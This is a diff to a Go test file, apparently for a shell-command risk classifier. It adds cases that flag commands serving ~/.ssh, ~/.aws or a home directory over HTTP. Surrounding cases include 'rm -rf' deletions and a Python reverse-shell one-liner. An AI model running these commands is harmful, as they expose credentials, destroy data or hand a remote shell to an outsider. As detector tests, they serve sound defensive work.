@@ -131,6 +131,14 @@ var silentPassKinds = []struct {
 		{"d=~; rm -rf $d", H, ""},
 		{"echo build | xargs rm -rf", R, ""},
 	}},
+	{"serving a secret directory over the network", []bashCase{
+		{"python3 -m http.server --directory ~/.ssh", H, "net.serve-secret"},
+		{"python -m http.server 8000 -d /home/dev/.aws", H, "net.serve-secret"},
+		{"cd ~ && python3 -m http.server", H, "net.serve-secret"},
+		{"php -S 0.0.0.0:8000 -t ~/.ssh", H, "net.serve-secret"},
+		{"python3 -m http.server 8000", R, ""},
+		{"php -S localhost:8000", R, ""},
+	}},
 	{"inline interpreter code", []bashCase{
 		{`python3 -c "import os; os.system('sh')"`, R, ""},
 		{`python3 -c "import socket,subprocess;s=socket.socket();s.connect(('h',1));subprocess.call(['sh'],stdin=s.fileno())"`, H, "net.reverse-shell"},
